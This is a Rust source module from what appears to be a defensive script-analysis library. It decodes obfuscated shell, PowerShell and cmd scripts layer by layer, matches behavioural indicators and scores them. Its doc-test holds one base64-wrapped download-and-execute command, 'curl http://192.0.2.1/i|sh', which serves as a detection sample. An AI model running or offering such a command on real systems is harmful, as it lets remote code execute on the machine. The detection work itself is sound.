//! What scripts do: layers decoded, indicators found, secrets masked.
//!
//! A script comes as text, from whichever source was trusted. [`examine`] unwraps what is wrapped ([`decode`]), searches every layer for behaviour ([`indicator`], [`matching`]), and scores it
//! ([`score`]). [`fingerprint`] says when two scripts are the same, [`secrets`] what must not be shown unasked. Nothing here knows a format, a host or a time (detectors 18, 32, 33).
//!
//! ```
//! use runlens_core::script::{ScriptHint, ScriptSettings, examine};
//! let found = examine("echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL2l8c2gK | base64 -d | sh", &ScriptHint::default(), &ScriptSettings::default());
//! assert_eq!(found.layers[1].text.as_deref(), Some("curl http://192.0.2.1/i|sh\n"));
//! assert!(found.matches.iter().any(|hit| hit.indicator.id == "dl-sh-pipe" && hit.layer == 1));
//! ```
//!
//! Rejected: running anything. Decoding is by rules with limits, and the limits are counts: the result does not depend on the machine.

pub mod decode;
pub mod fingerprint;
pub mod indicator;
pub mod matching;
pub mod score;
pub mod secrets;
pub mod weights;
pub(crate) mod word;

use decode::{Code, DecodeLimits, Layer};
use indicator::Indicators;
use matching::{Match, Searched};
use score::{Score, Thresholds};
use std::sync::Arc;
use weights::Weights;

/// Which language a layer is written in.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
pub enum Platform {
    /// Nothing says.
    #[default]
    Unknown,
    /// A POSIX shell.
    Shell,
    /// PowerShell.
    PowerShell,
    /// `cmd` and batch files.
    Cmd,
}

/// What is known of a script beside its text.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ScriptHint {
    /// `true` Windows, `false` Linux, `None` unknown.
    pub windows: Option<bool>,
    /// File name, for its extension.
    pub file_name: Option<String>,
}

/// Parameters of examination.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ScriptSettings {
    /// Limits of decoding.
    pub limits: DecodeLimits,
    /// Score at which severities begin.
    pub thresholds: Thresholds,
    /// Weights that the analyst changed.
    pub weights: Weights,
}

/// What examination found.
#[derive(Debug)]
pub struct Examined {
    /// The script itself, then what was decoded from it.
    pub layers: Vec<Layer>,
    /// Indicators, by layer and place.
    pub matches: Vec<Match>,
    /// The score.
    pub score: Score,
    /// Codes of decoding findings, sorted.
    pub codes: Vec<Code>,
}

impl Platform {
    /// Guess: shebang, extension, system, then the text's own look (detectors 32).
    #[must_use]
    pub fn guess(text: &str, hint: &ScriptHint) -> Self {
        let first = text.lines().next().unwrap_or("");
        if first.starts_with("#!") {
            let shell = first.contains("sh") && !first.contains("pwsh");
            return match (shell, first.contains("pwsh")) {
                (_, true) => Self::PowerShell,
                (true, _) => Self::Shell,
                _ => Self::Unknown,
            };
        }
        let name = hint.file_name.as_deref().unwrap_or("").to_ascii_lowercase();
        match name.rsplit('.').next() {
            Some("ps1" | "psm1") => return Self::PowerShell,
            Some("sh" | "bash") => return Self::Shell,
            Some("bat" | "cmd") => return Self::Cmd,
            _ => {}
        }
        match hint.windows {
            Some(true) if looks_like_cmd(text) => return Self::Cmd,
            Some(true) => return Self::PowerShell,
            Some(false) => return Self::Shell,
            None => {}
        }
        if looks_like_cmd(text) {
            Self::Cmd
        } else if looks_like_powershell(text) {
            Self::PowerShell
        } else {
            Self::Shell
        }
    }
}

fn looks_like_cmd(text: &str) -> bool {
    let bytes = text.as_bytes();
    let letter = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_alphabetic);
    let carets = memchr::memchr_iter(b'^', bytes)
        .filter(|at| at.checked_sub(1).is_some_and(letter) && letter(at + 1))
        .count();
    let start = text.trim_start().get(..9);
    start.is_some_and(|start| start.eq_ignore_ascii_case("@echo off"))
        || carets >= 2
        || word::has_folded(text, b'%', "%comspec%")
}

/// A `$name =` assignment or a `Verb-Noun` word.
fn looks_like_powershell(text: &str) -> bool {
    const VERBS: [&str; 22] = [
        "get-",
        "set-",
        "new-",
        "remove-",
        "add-",
        "invoke-",
        "start-",
        "stop-",
        "write-",
        "out-",
        "import-",
        "export-",
        "test-",
        "copy-",
        "move-",
        "select-",
        "where-",
        "foreach-",
        "convertto-",
        "convertfrom-",
        "enable-",
        "disable-",
    ];
    let folded = text.to_ascii_lowercase();
    let word = |at: usize| {
        let before = folded.get(..at).and_then(|head| head.chars().next_back());
        before.is_none_or(|letter| !letter.is_ascii_alphanumeric() && letter != '-')
    };
    let verb = VERBS.iter().any(|verb| {
        folded.match_indices(verb).any(|(at, _)| {
            let after = folded
                .get(at + verb.len()..)
                .and_then(|rest| rest.chars().next());
            word(at) && after.is_some_and(|letter| letter.is_ascii_alphabetic())
        })
    });
    verb || folded.lines().any(|line| {
        let line = line.trim_start();
        line.strip_prefix('$').is_some_and(|rest| {
            let name = rest.trim_start_matches(|letter: char| {
                letter.is_ascii_alphanumeric() || letter == '_' || letter == ':'
            });
            name.len() < rest.len() && name.trim_start().starts_with('=')
        })
    })
}

/// The lists of indicators that scripts are searched with: the built-in one, and the analyst's own.
#[derive(Clone, Debug, Default)]
pub struct Catalogue {
    /// The analyst's.
    pub own: Option<Arc<Indicators>>,
}

/// What is kept from one script to the next of a case: the lines that were searched, by each list. It belongs to one catalogue with one set of parameters.
#[derive(Debug, Default)]
pub struct Examinations {
    built_in: Searched,
    own: Searched,
}

impl Catalogue {
    /// Examines a script; `before` are the examinations of the same catalogue with the same parameters.
    #[must_use]
    pub fn examine(
        &self,
        text: &str,
        hint: &ScriptHint,
        settings: &ScriptSettings,
        before: &mut Examinations,
    ) -> Examined {
        let built_in = (indicator::built_in(), &mut before.built_in);
        match &self.own {
            Some(own) => {
                let own = (own.as_ref(), &mut before.own);
                examine_with(text, hint, settings, &mut [built_in, own])
            }
            None => examine_with(text, hint, settings, &mut [built_in]),
        }
    }
}

/// Examines a script with the built-in indicators.
#[must_use]
pub fn examine(text: &str, hint: &ScriptHint, settings: &ScriptSettings) -> Examined {
    Catalogue::default().examine(text, hint, settings, &mut Examinations::default())
}

/// Examines a script with the indicators of these lists, each beside the lines that it was searched in before.
fn examine_with(
    text: &str,
    hint: &ScriptHint,
    settings: &ScriptSettings,
    lists: &mut [(&Indicators, &mut Searched)],
) -> Examined {
    let (layers, mut codes) = decode::layers(text, hint, &settings.limits);
    let mut matches = Vec::new();
    for (at, layer) in layers.iter().enumerate() {
        if let Some(text) = &layer.text {
            for (list, searched) in lists.iter_mut() {
                matches.extend(matching::search(
                    list,
                    &settings.weights,
                    text,
                    layer.platform,
                    at,
                    searched,
                ));
            }
        }
    }
    if lists.len() > 1 {
        matches.sort_by_key(|hit| (hit.layer, hit.range.start));
    }
    codes.sort_unstable();
    codes.dedup();
    let score = score::score(&layers, &matches, &settings.thresholds);
    Examined {
        layers,
        matches,
        score,
        codes,
    }
}

#[cfg(test)]
mod tests;
